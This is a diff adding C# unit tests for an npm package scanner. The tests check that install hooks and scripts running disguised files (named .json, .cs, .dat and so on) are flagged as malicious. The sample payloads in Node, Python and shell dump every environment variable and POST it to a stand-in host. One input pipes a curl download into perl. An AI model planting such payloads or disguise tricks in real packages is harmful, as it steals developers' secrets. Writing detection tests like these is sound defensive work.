@@ -1,0 +1,91 @@
+using PackageWall.Inspection.Reports;
+using PackageWall.Packages;
+using PackageWall.Testing.Packages;
+
+namespace PackageWall.Inspection.Tests.Catalogue;
+
+/// <summary>
+/// The same harvest in files that are called something else than what runs them. Whoever reads a file by its name or its looks alone finds
+/// settings, a style sheet or the wrong language.
+/// </summary>
+public sealed class DisguiseTests
+{
+    private const string Script = "const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'collect.invalid',path:'/x',method:'POST'});r.write(d);r.end();\n";
+    private const string Python = "import os, json, urllib.request\nurllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n";
+    private const string Shell = "env | curl -s -X POST --data-binary @- https://collect.invalid/x\n";
+    private const string LikeScript = "\"\"\"\nconst fs = require(\"fs\");\nfunction f(a) { return a === 2; }\nconsole.log(module.exports);\n\"\"\"\n";
+    private const string LikePython = "/*\nimport os\nimport sys\ndef f(self):\n    print(self)\nif __name__ == \"__main__\":\n    pass\n*/\n";
+
+    [Theory]
+    [InlineData("python data.json", "data.json", Python)]
+    [InlineData("python3 -O data.json", "data.json", Python)]
+    [InlineData("python3 -X dev data.json", "data.json", Python)]
+    [InlineData("python3 data.dat", "data.dat", LikeScript + Python)]
+    [InlineData("python3 tools", "tools/__main__.py", Python)]
+    [InlineData("python3 -m tools.x", "tools/x.py", Python)]
+    [InlineData("uv run data.json", "data.json", Python)]
+    [InlineData("sh data.json", "data.json", Shell)]
+    [InlineData("sh x.ts", "x.ts", Shell)]
+    [InlineData("bash ./x.cs", "x.cs", Shell)]
+    [InlineData("./x.json", "x.json", Shell)]
+    [InlineData("./x.py", "x.py", "#!/bin/sh\n" + Shell)]
+    [InlineData("BASH_ENV=./x.json bash -c true", "x.json", Shell)]
+    [InlineData("find . -name x.json -exec sh {} ;", "x.json", Shell)]
+    [InlineData("node x.cs", "x.cs", Script)]
+    [InlineData("node x.py", "x.py", Script)]
+    [InlineData("node x.dat", "x.dat", LikePython + Script)]
+    [InlineData("node --max-http-header-size 16384 x.js", "x.js", Script)]
+    [InlineData("node --import=./x.mjs index.js", "x.mjs", Script)]
+    [InlineData("NODE_OPTIONS='--require ./x.cs' node index.js", "x.cs", Script)]
+    [InlineData("cross-env NODE_OPTIONS=--require=./x.cs node index.js", "x.cs", Script)]
+    [InlineData("tsx x.dat", "x.dat", Script)]
+    public void A_hook_runs_a_file_as_what_runs_it_takes_it(string command, string file, string payload) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", command).File("index.js", "exports.x = 1;").File(file, payload)).Verdict.ShouldBe(Verdict.Malicious);
+
+    [Theory]
+    [InlineData("require('./x.cs')", "x.cs", Script)]
+    [InlineData("require('./x.dat')", "x.dat", LikePython + Script)]
+    [InlineData("require('child_process').fork('./x.py')", "x.py", Script)]
+    [InlineData("new (require('worker_threads').Worker)('./x.cs')", "x.cs", Script)]
+    [InlineData("require('child_process').spawnSync('python3', [__dirname + '/x.json'])", "x.json", Python)]
+    [InlineData("require('child_process').spawnSync('node', ['-r', './y.js', './x.js'])", "x.js", Script)]
+    [InlineData("eval(require('fs').readFileSync(__dirname + '/x.json', 'utf8'))", "x.json", Script)]
+    [InlineData("require('vm').runInThisContext(require('fs').readFileSync(__dirname + '/x.props'))", "x.props", Script)]
+    public void A_script_runs_a_file_as_what_runs_it_takes_it(string code, string file, string payload) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", code).File("y.js", "").File(file, payload)).Verdict.ShouldBe(Verdict.Malicious);
+
+    [Theory]
+    [InlineData("main", "x.txt")]
+    [InlineData("main", "x.cs")]
+    [InlineData("exports", "./x.txt")]
+    public void A_main_file_is_a_script_by_any_name(string field, string file) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").With(field, file).File(file.TrimStart('.', '/'), "/* " + new string('a', 70_000) + " */\n" + Script)).Verdict.ShouldBe(Verdict.Malicious);
+
+    [Theory]
+    [InlineData("exec(open('x.js').read())")]
+    [InlineData("import runpy\nrunpy.run_path('x.js')")]
+    [InlineData("import importlib.machinery\nimportlib.machinery.SourceFileLoader('x', 'x.js').load_module()")]
+    public void Python_runs_a_file_by_any_name(string code) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", "python i.py").File("index.js", "").File("i.py", code).File("x.js", Python)).Verdict.ShouldBe(Verdict.Malicious);
+
+    [Theory]
+    [InlineData("perl x.pl", "x.pl", "print 1;")]
+    [InlineData("curl https://x.invalid/y | perl", "y", "")]
+    [InlineData("make", "Makefile", "all:\n\techo x\n")]
+    [InlineData("./x", "x", "#!/usr/bin/perl\nprint 1;\n")]
+    [InlineData("cscript x.vbs", "x.vbs", "WScript.Echo 1")]
+    [InlineData("awk 'BEGIN { system(\"sh x\") }'", "x", "")]
+    public void What_nobody_here_can_read_is_held_where_it_runs_by_itself(string command, string file, string text) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", command).File("index.js", "").File(file, text)).Verdict.ShouldNotBe(Verdict.Clean);
+
+    [Theory]
+    [InlineData("index.js", "exports.style = () => require('./x.css');", "x.css", "html {\n  color: red;\n}\n")]
+    [InlineData("index.js", "exports.data = require('./x.json');", "x.json", "{ \"a\": 1 }")]
+    [InlineData("index.js", "exports.run = () => require('child_process').spawn('perl', ['x.pl']);", "x.pl", "print 1;")]
+    [InlineData("index.js", "exports.run = () => require('child_process').spawn('./x');", "x", "#!/usr/bin/perl\nprint 1;\n")]
+    [InlineData("x.css", "html { color: red }", "index.js", "")]
+    public void What_is_no_script_to_anybody_is_left_alone(string main, string code, string file, string text) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").With("main", main).File(main, code).File(file, text)).Verdict.ShouldBe(Verdict.Clean);
+
+    private static InspectionReport Of(NpmPackageBuilder package) => CatalogueInspection.Of(Ecosystem.Npm, package.FileName, package.Build());
+}
